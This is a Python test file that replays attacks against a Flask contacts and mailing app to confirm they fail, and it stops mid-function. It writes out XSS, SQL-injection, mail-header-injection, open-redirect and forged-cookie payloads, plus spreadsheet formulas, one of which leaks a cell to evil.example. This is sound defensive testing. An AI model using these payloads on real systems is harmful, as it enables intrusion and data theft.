"""Attacks the product resisted before the hardening issue, made again the attacker's way.

Each test does what an anonymous visitor, a link scanner, a curious viewer-role member of
staff or the sender of a hostile file would do, through HTTP or the command line, and checks
both the answer and that nothing was stored. docs/security.md points at them, beside the
older tests that already did so (see the table there)."""

import csv
import hashlib
import html
import io
import re
from datetime import timedelta
from html.parser import HTMLParser
from urllib.parse import quote, urljoin, urlsplit

import pytest
import sqlalchemy as sa
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask.testing import FlaskClient
from itsdangerous import URLSafeTimedSerializer
from openpyxl import load_workbook

from jeg_contacts.audit.models import AuditEntry
from jeg_contacts.auth.models import Role, User
from jeg_contacts.contacts.links import confirm_token, manage_token
from jeg_contacts.contacts.models import Contact, ContactStatus, Organisation, Topic
from jeg_contacts.extensions import db, utcnow
from jeg_contacts.mailing import drafts
from jeg_contacts.mailing.models import Announcement, AnnouncementStatus
from tests.conftest import (
    STAFF_PASSWORD,
    create_staff,
    csrf_token,
    html_body,
    link_in,
    log_in,
    make_app,
    outbox_messages,
    post_signup,
    signup_form,
    staff_client,
    text_body,
    topic_ids,
)
from tests.imports.conftest import csv_bytes, row, write
from tests.imports.web_import import commit, preview_url, upload
from tests.mailing.ui import create, run_worker, send_now

# --- Helpers ------------------------------------------------------------------------------


class ActiveContent(HTMLParser):
    """What a browser would run or build from a page beyond its own markup: event-handler
    attributes, inline scripts, script-like links, and the marker elements and attributes the
    payloads below try to create."""

    MARKER = "jegxss"

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.MARKER in tag:
            self.found.append(f"element <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or self.MARKER in name:
                self.found.append(f"attribute {name}={value!r} on <{tag}>")
            link = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in ("href", "src", "action", "formaction") and link.startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.found.append(f"{name}={value!r} on <{tag}>")
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.found.append(f"inline script {data.strip()[:60]!r}")

    @classmethod
    def of(cls, page: str) -> list[str]:
        parser = cls()
        parser.feed(page)
        parser.close()
        return parser.found


def _page(client: FlaskClient, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, f"{url}: {response.status_code}"
    return response.get_data(as_text=True)


def _count(app: Flask, model: type) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def _contact(app: Flask, email: str) -> Contact | None:
    """The contact with this address as stored now (detached), or None."""
    with app.app_context():
        contact = db.session.scalar(sa.select(Contact).where(Contact.email_key == email.casefold()))
        if contact is not None:
            _ = contact.organisation, list(contact.topics)
            db.session.expunge(contact)
        return contact


def _activate(app: Flask, email: str) -> int:
    """Make a signed-up contact active, as confirming would. Done directly: these tests are
    about other links, and how a confirmation link is followed changes with issue 9 item 5."""
    with app.app_context():
        contact = db.session.scalar(sa.select(Contact).where(Contact.email_key == email.casefold()))
        contact.status = ContactStatus.ACTIVE
        contact.confirmed_at = utcnow()
        db.session.commit()
        return contact.id


def _subscriber(app: Flask, client: FlaskClient, email: str, **profile: object) -> str:
    """Sign up through the public form, become active, and ask again: the path of the
    preferences link the app mails to an active subscriber."""
    assert post_signup(client, app, email=email, **profile).status_code == 302
    _activate(app, email)
    assert post_signup(client, app, email=email, **profile).status_code == 302
    [message] = [m for m in outbox_messages(app) if email in str(m["To"])][-1:]
    return link_in(message, "/preferences/")


def _profile_form(app: Flask, **overrides: object) -> dict[str, object]:
    """The preference centre's form, filled in validly."""
    form = {
        key: value
        for key, value in signup_form(app).items()
        if key not in ("email", "consent", "organisation_website", "phone", "job_title")
    }
    form.update(overrides)
    return form


# --- Cross-site request forgery -----------------------------------------------------------

# Protected by its token alone: RFC 8058 one-click unsubscribes come from mail servers, which
# hold no session and no CSRF token.
CSRF_EXEMPT = {"signup.unsubscribe"}


def _filled_url(rule: str, ids: dict[str, object]) -> str:
    """The rule's URL with real records' ids (any number for a kind not set up here: the
    CSRF check comes before the record is read)."""
    return re.sub(r"<(?:\w+:)?(\w+)>", lambda match: str(ids.get(match.group(1), 1)), rule)


def test_no_form_is_accepted_without_its_csrf_token(app):
    """A page on another site makes the browser of a logged-in administrator, or of a
    subscriber, post to every form the app has. Each post is refused and nothing changes."""
    admin = staff_client(app, "admin")
    viewer_id = create_staff(app, "viewer@unece.test", "viewer")
    visitor = app.test_client()
    assert post_signup(visitor, app, email="zoe@example.org").status_code == 302
    contact_id = _activate(app, "zoe@example.org")
    post_signup(visitor, app, email="pending@example.org")
    with app.app_context():
        announcement_id = drafts.save_draft(
            drafts.AnnouncementDraft(subject_en="Workshop", body_en="Text")
        ).id
        other = Organisation(
            name="Other", normalised_name="other", stakeholder_type="ngo", country="FR"
        )
        db.session.add(other)
        db.session.commit()
        contact = db.session.get(Contact, contact_id)
        pending = db.session.scalar(
            sa.select(Contact).where(Contact.email_key == "pending@example.org")
        )
        ids = {
            "contact_id": contact_id,
            "announcement_id": announcement_id,
            "organisation_id": contact.organisation_id,
            "other_id": other.id,
            "topic_id": topic_ids(app, "pipelines")[0],
            "user_id": viewer_id,
            "token": manage_token(contact),
        }
        confirm = confirm_token(pending)
    # Every field any form has, filled in so that the request would do harm if it got through.
    body = {
        **signup_form(app),
        "email": "attacker@evil.example",
        "password": "attacker password 1234",
        "current_password": STAFF_PASSWORD,
        "confirm": "y",
        "role": "admin",
        "status": "bounced",
        "new_status": "bounced",
        "action": "set_status",
        "when": "now",
        "published": "1",
        "direction": "up",
        "slug": "attacker-topic",
        "label_en": "Attacker",
        "label_fr": "Attacker",
        "label_ru": "Attacker",
        "group": "general",
        "kind": "activity",
        "subject_en": "Attacker",
        "body_en": "Attacker",
    }
    audited = _count(app, AuditEntry)
    mails = len(outbox_messages(app))
    version = _contact(app, "zoe@example.org").version

    accepted = []
    posts = 0
    for rule in app.url_map.iter_rules():
        if "POST" not in rule.methods or rule.endpoint in CSRF_EXEMPT:
            continue
        url = _filled_url(rule.rule, ids)
        if rule.endpoint == "signup.resend_confirmation":
            url = f"/confirm/{confirm}/resend"
        # The login form is attacked from outside (login CSRF); the rest with a session.
        admin_area = rule.rule.startswith("/admin") and rule.endpoint != "auth.login"
        response = (admin if admin_area else visitor).post(url, data=body)
        posts += 1
        page = response.get_data(as_text=True)
        if response.status_code != 400 or "The form has expired" not in page:
            accepted.append(f"{rule.endpoint} {url}: {response.status_code}")
    assert posts >= 30
    assert accepted == []

    assert admin.get("/admin").status_code == 200  # the logout was refused too
    assert visitor.get("/admin").status_code == 302  # and the login
    assert _count(app, AuditEntry) == audited
    assert len(outbox_messages(app)) == mails
    assert _count(app, User) == 2
    with app.app_context():
        assert db.session.get(User, viewer_id).role is Role.VIEWER
        contact = db.session.get(Contact, contact_id)
        assert (contact.status, contact.version, contact.given_name) == (
            ContactStatus.ACTIVE,
            version,
            "Zoë",
        )
        assert db.session.get(Announcement, announcement_id).status is AnnouncementStatus.DRAFT
        assert db.session.scalar(sa.select(Topic).where(Topic.slug == "attacker-topic")) is None
        assert db.session.get(Organisation, ids["other_id"]) is not None


def test_a_csrf_token_from_the_attackers_own_session_is_refused(app, admin_client):
    """The attacker cannot read the administrator's token, but has one of their own."""
    attacker = app.test_client()
    their_token = csrf_token(attacker, "/signup")
    response = admin_client.post(
        "/admin/users",
        data={
            "csrf_token": their_token,
            "email": "attacker@evil.example",
            "password": "attacker password 1234",
            "role": "admin",
        },
    )
    assert response.status_code == 400
    assert "The form has expired" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalars(sa.select(User.email)).all() == ["admin@unece.test"]


# --- Cross-site scripting -----------------------------------------------------------------

# Names may not hold < or >, so what a name can try is to close an attribute and open another.
HOSTILE_PROFILE = {
    "given_name": 'Eve" jegxss-given="1',
    "family_name": "O'Hara' jegxss-family='1",
    "organisation_name": 'ACME & Co" jegxss-org="1',
    "job_title": '<script>alert("jegxss")</script><jegxss-job x="1">',
}


def test_markup_typed_into_the_sign_up_form_stays_text_wherever_it_is_shown(app):
    visitor = app.test_client()
    preferences = _subscriber(app, visitor, "eve@example.org", **HOSTILE_PROFILE)
    contact = _contact(app, "eve@example.org")
    assert contact.given_name == HOSTILE_PROFILE["given_name"]  # kept as typed, as data
    admin = staff_client(app, "admin")
    organisation = f"/admin/organisations/{contact.organisation_id}"
    pages = {
        "preferences": _page(visitor, preferences),
        "erase": _page(visitor, f"{preferences}/erase"),
        "unsubscribe": _page(visitor, preferences.replace("/preferences/", "/unsubscribe/")),
        "directory": _page(admin, "/admin/contacts"),
        "search": _page(admin, "/admin/contacts?q=Eve"),
        "contact": _page(admin, f"/admin/contacts/{contact.id}"),
        "contact edit": _page(admin, f"/admin/contacts/{contact.id}/edit"),
        "contact erase": _page(admin, f"/admin/contacts/{contact.id}/erase"),
        "bulk": _page(admin, "/admin/contacts/bulk?q=Eve&action=set_status&new_status=bounced"),
        "organisations": _page(admin, "/admin/organisations"),
        "organisation": _page(admin, organisation),
        "organisation edit": _page(admin, f"{organisation}/edit"),
        "organisation merge": _page(admin, f"{organisation}/merge"),
        "exports": _page(admin, "/admin/exports?q=Eve"),
        "dashboard": _page(admin, "/admin"),
    }
    for message in outbox_messages(app):
        pages[f"mail {message['Subject']}"] = html_body(message)
    for name, page in pages.items():
        assert ActiveContent.of(page) == [], name
    # Shown, as text: the checks above did not pass because the values were left out.
    for name in ("preferences", "contact edit"):
        shown = html.unescape(pages[name])
        for field in ("given_name", "family_name", "organisation_name"):
            assert HOSTILE_PROFILE[field] in shown, (name, field)
    assert HOSTILE_PROFILE["job_title"] in html.unescape(pages["contact"])
    assert HOSTILE_PROFILE["organisation_name"] in html.unescape(pages["organisation"])


def test_markup_in_a_topic_label_stays_text_on_public_pages_and_in_announcements(app):
    """Topic labels are the one text staff type that the public sees on every sign-up."""
    admin = staff_client(app, "admin")
    label = '<img src=x onerror=alert("jegxss")><jegxss-topic>'
    response = admin.post(
        "/admin/topics",
        data={
            "csrf_token": csrf_token(admin, "/admin/topics"),
            "slug": "hostile-topic",
            "label_en": label,
            "label_fr": label,
            "label_ru": label,
            "group": "general",
        },
    )
    assert response.status_code == 302
    visitor = app.test_client()
    preferences = _subscriber(
        app, visitor, "reader@example.org", topics=[str(i) for i in topic_ids(app, "hostile-topic")]
    )
    editor = staff_client(app, "editor")
    send_now(editor, create(editor, body_en="Dear {{ given_name }},\n\nNews."))
    run_worker(app)
    announcement = outbox_messages(app)[-1]
    assert label in text_body(announcement)  # the footer names the topic
    pages = {
        "signup": _page(visitor, "/signup"),
        "signup fr": _page(visitor, "/signup?lang=fr"),
        "preferences": _page(visitor, preferences),
        "announcement mail": html_body(announcement),
        "topics": _page(admin, "/admin/topics"),
        "dashboard": _page(admin, "/admin"),
        "directory": _page(admin, "/admin/contacts"),
        "compose": _page(admin, "/admin/announcements/new"),
    }
    for name, page in pages.items():
        assert ActiveContent.of(page) == [], name
        assert "<img" not in page, name
    assert label in html.unescape(pages["signup"])


REFLECTED = '"><script>alert("jegxss")</script><jegxss-q x=\'1\'>'


REFLECTING = [
    "/admin/contacts?q={p}&{p}=1&sort={p}&status={p}",
    "/admin/contacts/bulk?q={p}&{p}=1&action=set_status&new_status={p}",
    "/admin/organisations?q={p}&{p}=1&type={p}",
    "/admin/audit?actor={p}&action={p}&entity_type={p}&{p}=1",
    "/admin/exports?q={p}&{p}=1&column={p}&columns_chosen=1&format={p}",
    "/admin/announcements?{p}=1",
    "/admin/announcements/new?q={p}&country={p}",
    "/signup?lang={p}&{p}=1",
    "/new-link?{p}=1",
    "/announcements?page={p}&{p}=1",
    "/?lang={p}",
    "/privacy?{p}=1",
]


def test_markup_in_query_arguments_is_never_echoed_as_markup(app):
    admin = staff_client(app, "admin")
    payload = quote(REFLECTED)
    for url in REFLECTING:
        response = admin.get(url.format(p=payload))
        assert response.status_code in (200, 400), url  # a refused bulk action: its form again
        assert ActiveContent.of(response.get_data(as_text=True)) == [], url
    # A logged-in visitor to the login page is sent on at once: this one is not logged in.
    login = _page(app.test_client(), f"/admin/login?next={payload}")
    assert ActiveContent.of(login) == []


# --- Mail header injection ----------------------------------------------------------------

LINE_BREAKS = ["Eve\r\nBcc: victim@evil.example", "Eve\nBcc: x@evil.example", "Eve\u2028Bcc: x"]


@pytest.mark.parametrize("name", LINE_BREAKS)
def test_a_name_with_a_line_break_is_refused_by_every_form_that_takes_one(app, name):
    """The sign-up form itself is covered in tests/signup/test_signup_input.py."""
    visitor = app.test_client()
    preferences = _subscriber(app, visitor, "zoe@example.org")
    form = _profile_form(app, given_name=name, csrf_token=csrf_token(visitor, preferences))
    assert visitor.post(preferences, data=form).status_code == 400

    editor = staff_client(app, "editor")
    contact = _contact(app, "zoe@example.org")
    edit = f"/admin/contacts/{contact.id}/edit"
    page = _page(editor, edit)
    version = re.search(r'name="version" type="hidden" value="(\d+)"', page).group(1)
    staff_form = {
        **_profile_form(app),
        "email": "zoe@example.org",
        "status": "active",
        "version": version,
        "csrf_token": csrf_token(editor, edit),
    }
    assert editor.post(edit, data={**staff_form, "family_name": name}).status_code == 400
    new = {**staff_form, "email": "new@example.org", "given_name": name}
    new["csrf_token"] = csrf_token(editor, "/admin/contacts/new")
    assert editor.post("/admin/contacts/new", data=new).status_code == 400

    stored = _contact(app, "zoe@example.org")
    assert (stored.given_name, stored.family_name, stored.version) == (
        "Zoë",
        "Müller",
        contact.version,
    )
    assert _contact(app, "new@example.org") is None


@pytest.mark.parametrize("name", LINE_BREAKS)
def test_a_name_with_a_line_break_is_rejected_from_imported_files(app, runner, tmp_path, name):
    content = csv_bytes([row("fine@example.org"), row("eve@example.org", name, "Hostile")])
    editor = staff_client(app, "editor")
    url = preview_url(upload(editor, content))
    assert "<strong>1</strong> rejected" in _page(editor, url)
    commit(editor, url)
    path = write(tmp_path, "hostile.csv", content)
    result = runner.invoke(args=["contacts", "import", str(path), "--status", "pending"])
    assert result.exit_code == 0, result.output
    assert "single line" in result.output
    assert _contact(app, "eve@example.org") is None
    assert _contact(app, "fine@example.org") is not None


def test_a_name_with_an_encoded_line_break_gets_one_recipient_and_no_extra_header(
    smtp_app, smtp_server
):
    """RFC 2047 encoded words are decoded by some mail libraries into raw line breaks
    (CVE-2024-6923); they are kept in names, but must not become header lines."""
    handler, _port = smtp_server
    app = smtp_app
    visitor = app.test_client()
    hostile = "=?UTF-8?Q?=0D=0A?=Bcc: victim@evil.example"
    response = post_signup(visitor, app, email="eve@example.org", given_name=hostile)
    assert response.status_code == 302
    _activate(app, "eve@example.org")
    editor = staff_client(app, "editor")
    send_now(
        editor,
        create(
            editor, subject_en="News =?UTF-8?Q?=0A?=X-Injected: 1", body_en="Dear {{ given_name }}"
        ),
    )
    run_worker(app)

    messages = handler.wait_for(2)
    assert [recipients for _sender, recipients in handler.envelopes] == [["eve@example.org"]] * 2
    for message in messages:
        assert message.get_all("Bcc") is None and message.get_all("X-Injected") is None
        [to] = message.get_all("To")
        assert [address.addr_spec for address in to.addresses] == ["eve@example.org"]
        names = {name.lower() for name in message}
        assert names <= {
            "from", "to", "subject", "date", "message-id", "mime-version", "content-type",
            "content-transfer-encoding", "list-id", "list-unsubscribe", "list-unsubscribe-post",
        }  # fmt: skip


# --- Formula injection in exports ---------------------------------------------------------

FORMULAS = {
    "given_name": '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
    "family_name": "+SUM(1+1)*cmd|' /C calc'!A0",
    "organisation_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "job_title": "-2+3+cmd|' /C calc'!A0",
}
# Data, not a formula: it names no function, cell or program, and goes out as typed.
PHONE = "+41 22 917 12 34"
COLUMN_OF = {
    "given_name": "Given name",
    "family_name": "Family name",
    "organisation_name": "Organisation",
    "job_title": "Job title",
}


def _assert_neutralised(cells: dict[str, object], where: str) -> None:
    for field, formula in FORMULAS.items():
        assert cells[COLUMN_OF[field]] == "'" + formula, f"{where}: {field}"
    assert cells["Phone"] == PHONE, where


def _first_row(workbook: object) -> dict[str, object]:
    """The values of a workbook's first data row by column title; every formula-bearing cell
    must be typed as text, not merely look like it."""
    sheet = load_workbook(workbook).active
    cells = dict(zip([cell.value for cell in sheet[1]], sheet[2], strict=True))
    assert all(cells[column].data_type == "s" for column in COLUMN_OF.values())
    return {title: cell.value for title, cell in cells.items()}


def test_formulas_typed_at_sign_up_are_inert_in_every_spreadsheet_export(app, runner, tmp_path):
    assert (
        post_signup(
            app.test_client(), app, email="eve@example.org", phone=PHONE, **FORMULAS
        ).status_code
        == 302
    )
    viewer = staff_client(app, "viewer")
    for format_key, encoding in (("csv", "utf-8"), ("excel-csv", "utf-8-sig")):
        response = viewer.get(f"/admin/exports/download?format={format_key}")
        assert response.status_code == 200
        [cells] = csv.DictReader(io.StringIO(response.get_data().decode(encoding)))
        _assert_neutralised(cells, format_key)
    response = viewer.get("/admin/exports/download?format=xlsx")
    _assert_neutralised(_first_row(io.BytesIO(response.get_data())), "xlsx")

    result = runner.invoke(args=["contacts", "export"])
    assert result.exit_code == 0, result.output
    [cells] = csv.DictReader(io.StringIO(result.stdout))
    _assert_neutralised(cells, "command line csv")
    output = tmp_path / "list.xlsx"
    result = runner.invoke(args=["contacts", "export", "--format", "xlsx", "-o", str(output)])
    assert result.exit_code == 0, result.output
    _assert_neutralised(_first_row(output), "command line xlsx")


# --- Open redirect after login ------------------------------------------------------------

OFFSITE = [
    "https://evil.example/admin",
    "//evil.example/admin",
    "///evil.example/admin",
    "/\\evil.example/admin",
    "\\\\evil.example/admin",
    "/\t/evil.example/admin",
    " //evil.example/admin",
    "http:evil.example/admin",
    "https:/evil.example/admin",
    "javascript:alert(1)//admin",
    "%2F%2Fevil.example%2Fadmin",
    "/admin@evil.example",
    "/admin\\..\\..\\\\evil.example",
]


def _stays_here(location: str) -> bool:
    """Whether a browser following `location` from the login page stays on this site: it
    drops tabs and line breaks and reads backslashes as slashes."""
    browser_view = re.sub(r"[\t\n\r]", "", location).strip("\x00 ").replace("\\", "/")
    target = urlsplit(urljoin("http://localhost/admin/login", browser_view))
    return target.scheme == "http" and target.netloc == "localhost"


@pytest.mark.parametrize("target", OFFSITE)
def test_the_login_page_never_sends_anyone_to_another_site(app, client, target):
    create_staff(app, "ana@unece.test", "viewer")
    form = {"email": "ana@unece.test", "password": STAFF_PASSWORD}
    form["csrf_token"] = csrf_token(client, "/admin/login")
    response = client.post("/admin/login", query_string={"next": target}, data=form)
    assert response.status_code == 302
    assert _stays_here(response.headers["Location"]), response.headers["Location"]
    # Already logged in, the login page redirects at once: the same rule holds.
    again = client.get("/admin/login", query_string={"next": target})
    assert again.status_code == 302
    assert _stays_here(again.headers["Location"]), again.headers["Location"]


# --- Forged and tampered links ------------------------------------------------------------


def _with_id(token: str, contact_id: int) -> str:
    return re.sub(r"^\d+", str(contact_id), token)


def test_a_subscriber_cannot_turn_their_own_link_into_someone_elses(app):
    """Eve has a genuine preferences link of her own; she swaps in the number of Zoë's
    record, hoping the signature does not cover it."""
    victim = app.test_client()
    _subscriber(app, victim, "zoe@example.org")
    zoe = _contact(app, "zoe@example.org")
    eve = app.test_client()
    own = _subscriber(app, eve, "eve@example.org", given_name="Eve")
    assert eve.get(own).status_code == 200  # her own link works
    token = own.removeprefix("/preferences/")
    forged = _with_id(token, zoe.id)
    csrf = csrf_token(eve, own)
    attempts = [
        eve.get(f"/preferences/{forged}"),
        eve.post(
            f"/preferences/{forged}", data=_profile_form(app, given_name="Hacked", csrf_token=csrf)
        ),
        eve.post(f"/preferences/{forged}/my-data", data={"csrf_token": csrf}),
        eve.get(f"/preferences/{forged}/erase"),
        eve.post(f"/preferences/{forged}/erase", data={"csrf_token": csrf}),
        eve.get(f"/unsubscribe/{forged}"),
        eve.post(f"/unsubscribe/{forged}", data={"List-Unsubscribe": "One-Click"}),
    ]
    for response in attempts:
        assert response.status_code == 400
        assert "zoe@example.org" not in response.get_data(as_text=True)
    after = _contact(app, "zoe@example.org")
    assert (after.status, after.given_name, after.version) == (
        ContactStatus.ACTIVE,
        "Zoë",
        zoe.version,
    )


def test_confirmation_links_cannot_be_stretched_redirected_or_used_as_preference_links(app):
    visitor = app.test_client()
    post_signup(visitor, app, email="zoe@example.org")
    zoe = _contact(app, "zoe@example.org")
    with app.app_context():
        # The link Zoë was mailed eight days ago, now expired.
        contact = db.session.get(Contact, zoe.id)
        expired = confirm_token(contact, issued_at=utcnow() - timedelta(days=8))
        preferences = manage_token(contact)
    contact_id, issued, signature = expired.split(".")
    eve = app.test_client()
    post_signup(eve, app, email="eve@example.org", given_name="Eve")
    eve_link = link_in(outbox_messages(app)[-1], "/confirm/").removeprefix("/confirm/")
    now = int(utcnow().timestamp())
    forgeries = [
        f"{contact_id}.{now}.{signature}",  # stretched: today's date, old signature
        f"{contact_id}.{issued}.{preferences.split('.')[1]}",  # a preferences signature
        _with_id(eve_link, zoe.id),  # Eve's own link, Zoë's number
    ]
    for forged in forgeries:
        assert visitor.get(f"/confirm/{forged}").status_code == 400, forged
        assert 400 <= visitor.post(f"/confirm/{forged}").status_code < 500, forged
    # A confirmation signature does not open the preferences either.
    assert visitor.get(f"/preferences/{contact_id}.{signature}").status_code == 400
    assert _contact(app, "zoe@example.org").status is ContactStatus.PENDING


def test_following_an_unsubscribe_link_only_asks(app):
    """Mail scanners fetch every link in a message; only a POST unsubscribes."""
    visitor = app.test_client()
    preferences = _subscriber(app, visitor, "zoe@example.org")
    unsubscribe = preferences.replace("/preferences/", "/unsubscribe/")
    scanner = app.test_client(use_cookies=False)
    page = _page(scanner, unsubscribe)
    assert _contact(app, "zoe@example.org").status is ContactStatus.ACTIVE
    assert re.search(r'<form method="post"', page)


# --- Rate limits --------------------------------------------------------------------------


def test_forged_forwarding_headers_do_not_reset_the_limit_per_client(tmp_path):
    app = make_app(tmp_path, SIGNUP_RATE_LIMIT=3)
    bot = app.test_client()
    codes = []
    for n in range(4):
        data = signup_form(app, email=f"person{n}@example.org")
        data["csrf_token"] = csrf_token(bot, "/signup")
        spoofed = f"203.0.113.{n + 1}"
        headers = {
            "X-Forwarded-For": spoofed,
            "X-Real-IP": spoofed,
            "Forwarded": f"for={spoofed}",
            "Client-IP": spoofed,
        }
        codes.append(bot.post("/signup", data=data, headers=headers).status_code)
    assert codes == [302, 302, 302, 429]
    assert _count(app, Contact) == 3


def test_every_public_form_counts_towards_the_limit_per_client(tmp_path):
    app = make_app(tmp_path, SIGNUP_RATE_LIMIT=3)
    bot = app.test_client()
    token = csrf_token(bot, "/new-link")

    def ask_for_a_link(email: str) -> int:
        return bot.post("/new-link", data={"csrf_token": token, "email": email}).status_code

    assert ask_for_a_link("a@example.org") == 302
    assert ask_for_a_link("b@example.org") == 302
    # A link that does not work is refused, but the request still counts.
    assert bot.post("/confirm/1.1.x/resend", data={"csrf_token": token}).status_code == 400
    assert ask_for_a_link("c@example.org") == 429
    assert post_signup(bot, app).status_code == 429
    assert _count(app, Contact) == 0


def test_writing_an_address_differently_does_not_raise_its_daily_mail_cap(app):
    variants = [
        "zoe.mueller@example.org",
        "Zoe.Mueller@example.org",
        "ZOE.MUELLER@EXAMPLE.ORG",
        "zoe.mueller@Example.Org",
        " zoe.MUELLER@example.org ",
    ]
    for n, address in enumerate(variants):
        # From as many networks, so that only the cap per address can hold them back.
        client = app.test_client()
        client.environ_base["REMOTE_ADDR"] = f"198.51.100.{n + 1}"
        assert post_signup(client, app, email=address).status_code == 302
    assert len(outbox_messages(app)) == 3
    assert _count(app, Contact) == 1


# --- SQL injection ------------------------------------------------------------------------

SQL = [
    "' OR '1'='1",
    "%' OR 1=1 --",
    "'; DROP TABLE contacts; --",
    '" OR ""="',
    "') UNION SELECT password_hash, email FROM users --",
    "%",
    "_",
    "\\",
]


def test_sql_typed_into_search_and_filter_fields_is_only_text(app, runner):
    for email in ("ana@example.org", "bo@example.org"):
        post_signup(app.test_client(), app, email=email, given_name="Ana")
    create_staff(app, "secret.admin@unece.test", "admin")
    viewer = staff_client(app, "viewer")
    searches = [
        "/admin/contacts?q={p}",
        "/admin/contacts?q=ana+{p}",
        "/admin/exports?q={p}",
        "/admin/organisations?q={p}",
    ]
    filters = ("status", "country", "type", "topic", "language", "since", "until", "sort", "page")
    for payload in SQL:
        for url in searches:
            response = viewer.get(url.format(p=quote(payload)))
            assert response.status_code == 200, (url, payload)
            page = response.get_data(as_text=True)
            # Nobody's name, address or organisation holds the payload: nothing matches.
            assert "example.org" not in page and "Umweltbundesamt</a>" not in page, (url, payload)
            assert "secret.admin" not in page and "scrypt:" not in page and "pbkdf2:" not in page
        ignored = "&".join(f"{name}={quote(payload)}" for name in filters)
        assert "ana@example.org" in _page(viewer, f"/admin/contacts?{ignored}"), payload
        _page(viewer, f"/admin/audit?actor={quote(payload)}&entity_id={quote(payload)}")
        download = viewer.get(f"/admin/exports/download?q={quote(payload)}")
        assert download.status_code == 302, payload  # "nothing to export"
        result = runner.invoke(args=["contacts", "export", "--query", payload])
        assert "example.org" not in result.stdout, payload
    assert _count(app, Contact) == 2
    assert _count(app, User) == 2


# --- Access by role -----------------------------------------------------------------------


def test_a_viewer_holding_valid_forms_still_cannot_change_anything(app):
    """The viewer copies real forms (with their own valid CSRF token) from what editors see."""
    assert post_signup(app.test_client(), app, email="zoe@example.org").status_code == 302
    zoe = _contact(app, "zoe@example.org")
    other = post_signup(app.test_client(), app, email="bo@example.org", organisation_name="Other")
    assert other.status_code == 302
    bo = _contact(app, "bo@example.org")
    viewer_id = create_staff(app, "viewer@unece.test", "viewer")
    viewer = app.test_client()
    assert log_in(viewer, "viewer@unece.test").status_code == 302
    token = csrf_token(viewer, "/admin/account/password")
    organisation = f"/admin/organisations/{zoe.organisation_id}"
    attempts = {
        f"/admin/contacts/{zoe.id}/erase": {"confirm": "y"},
        f"/admin/contacts/{zoe.id}/status": {"status": "bounced", "version": "1"},
        "/admin/contacts/bulk": {"action": "set_status", "new_status": "bounced"},
        "/admin/users": {"email": "mine@evil.example", "password": "x" * 16, "role": "admin"},
        f"/admin/users/{viewer_id}/role": {"role": "admin"},
        "/admin/topics": {
            "slug": "mine", "label_en": "Mine", "label_fr": "Mine", "label_ru": "Mine",
            "group": "general",
        },
        f"{organisation}/edit": {"name": "Renamed", "stakeholder_type": "ngo", "country": "FR"},
        f"{organisation}/merge/{bo.organisation_id}": {"confirm": "y"},
        "/admin/announcements/new": {
            "kind": "activity", "subject_en": "Mine", "body_en": "Mine", "action": "save",
        },
    }  # fmt: skip
    for url, data in attempts.items():
        response = viewer.post(url, data={"csrf_token": token, **data})
        assert response.status_code == 403, url
    imported = viewer.post(
        "/admin/imports",
        data={
            "csrf_token": token,
            "file": (io.BytesIO(csv_bytes([row("x@example.org")])), "x.csv"),
        },
    )
    assert imported.status_code == 403
    for url in (f"/admin/contacts/{zoe.id}/personal-data.json", "/admin/users"):
        assert viewer.get(url).status_code == 403, url

    after = _contact(app, "zoe@example.org")
    assert (after.status, after.version, after.organisation_id) == (
        zoe.status,
        zoe.version,
        zoe.organisation_id,
    )
    with app.app_context():
        assert db.session.get(User, viewer_id).role is Role.VIEWER
        assert db.session.get(Organisation, bo.organisation_id) is not None
    assert _count(app, User) == 1
    assert _count(app, Announcement) == 0
    assert _count(app, AuditEntry) == 0
    assert _contact(app, "x@example.org") is None


def test_an_editor_cannot_make_themselves_an_administrator_or_erase_anyone(app):
    assert post_signup(app.test_client(), app, email="zoe@example.org").status_code == 302
    zoe = _contact(app, "zoe@example.org")
    editor_id = create_staff(app, "editor@unece.test", "editor")
    editor = app.test_client()
    assert log_in(editor, "editor@unece.test").status_code == 302
    token = csrf_token(editor, "/admin/contacts/new")
    for url, data in {
        f"/admin/users/{editor_id}/role": {"role": "admin"},
        "/admin/users": {"email": "mine@evil.example", "password": "x" * 16, "role": "admin"},
        f"/admin/contacts/{zoe.id}/erase": {"confirm": "y"},
    }.items():
        assert editor.post(url, data={"csrf_token": token, **data}).status_code == 403, url
    assert editor.get(f"/admin/contacts/{zoe.id}/personal-data.json").status_code == 403
    with app.app_context():
        assert db.session.scalars(sa.select(User.role)).all() == [Role.EDITOR]
    assert _contact(app, "zoe@example.org").status is ContactStatus.PENDING


def _cookie_serializer(secret_key: str) -> URLSafeTimedSerializer:
    """Flask's own session cookie signer, with `secret_key`."""
    interface = SecureCookieSessionInterface()
    return URLSafeTimedSerializer(
        secret_key,
        salt=interface.salt,
        serializer=interface.serializer,
        signer_kwargs={"key_derivation": interface.key_derivation, "digest_method": hashlib.sha1},
    )


def test_a_forged_session_cookie_is_no_login(app):
    """The attacker knows how Flask cookies are made, and even what a genuine one holds."""
    create_staff(app, "admin@unece.test", "admin")
    genuine = app.test_client()
    assert log_in(genuine, "admin@unece.test").status_code == 302
    cookie_name = app.config["SESSION_COOKIE_NAME"]
    real_key = app.config["SECRET_KEY"]
    session = _cookie_serializer(real_key).loads(genuine.get_cookie(cookie_name).value)
    with app.app_context():
        user_id = str(db.session.scalar(sa.select(User.id)))
    forged = {
        "the genuine session, signed with a guessed key": _cookie_serializer(
            "guessed-secret"
        ).dumps(session),
        "the user's number instead of the session, signed with the real key": _cookie_serializer(
            real_key
        ).dumps({**session, "_user_id": user_id}),
    }
    for case, cookie in forged.items():
        client = app.test_client()
        client.set_cookie(cookie_name, cookie)
        response = client.get("/admin/users")
        assert response.status_code == 302, case
        assert response.headers["Location"].startswith("/admin/login"), case
    # Re-signed with the real key, the genuine session opens the page: the refusals above are
    # the signature's and the session identifier's doing, not a malformed cookie's.
    client = app.test_client()
